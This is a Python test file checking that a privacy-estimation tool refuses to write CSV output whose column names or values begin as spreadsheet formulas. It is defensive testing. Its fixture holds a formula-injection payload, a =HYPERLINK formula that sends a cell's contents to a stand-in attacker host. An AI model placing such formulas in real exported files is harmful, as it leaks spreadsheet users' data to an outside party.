"""Names that a spreadsheet would compute are in no CSV file that is written for others."""

import pytest

import privest as pv
from workflow_command import called

NAME = '=HYPERLINK("http://evil.example/?"&A1)'


def columns(folder, *names):
    """A table whose columns have these names; the first is private."""
    quoted = ",".join('"{}"'.format(one.replace('"', '""')) for one in names)
    rows = "".join(f"{k % 7},{k},{'@' if k % 2 else 'b'}x\n" for k in range(40))
    (folder / "t.csv").write_text(f"{quoted}\n{rows}", encoding="utf-8")
    return folder / "t.csv"


@pytest.mark.parametrize(
    ("names", "features", "categories"),
    [(("y", NAME, "g"), [NAME], {}), (("y", "x", "g"), ["x", "g"], {"g": ["@x", "bx"]})],
    ids=["column", "category"],
)
def test_a_release_is_refused_before_anything_is_spent(tmp_path, names, features, categories):
    table = columns(tmp_path, *names)
    plan = pv.plan(table, target="y", features=features, level=1.0, categories=categories)
    with pytest.raises(pv.errors.InvalidInput, match="begins as a formula"):
        plan.release(tmp_path / "z.csv", ledger=tmp_path / "ledger.db")
    assert not (tmp_path / "z.csv").exists()
    assert not (tmp_path / "ledger.db").exists() or not pv.Ledger(tmp_path / "ledger.db").subjects()
    plan.release(tmp_path / "z.parquet", ledger=tmp_path / "ledger.db")


@pytest.mark.parametrize("emit", ["releases", "estimates"])
def test_a_stream_is_refused(tmp_path, emit):
    given = ("--target", "y", "--features", '"{}"'.format(NAME.replace('"', '""')), "--level", 1)
    table, ledger = columns(tmp_path, "y", NAME, "g"), ("--ledger", tmp_path / "ledger.db")
    done = called("stream", table, *given, "--emit", emit, *ledger, "--output", tmp_path / "z.csv")
    assert (done.returncode, "begins as a formula" in done.stderr) == (2, True), done.stderr
    assert not (tmp_path / "z.csv").exists()
    assert "=HYPERLINK" not in done.stdout
    done = called("stream", table, *given, "--emit", emit, "--output", tmp_path / "z.jsonl")
    assert done.returncode == 0, done.stderr
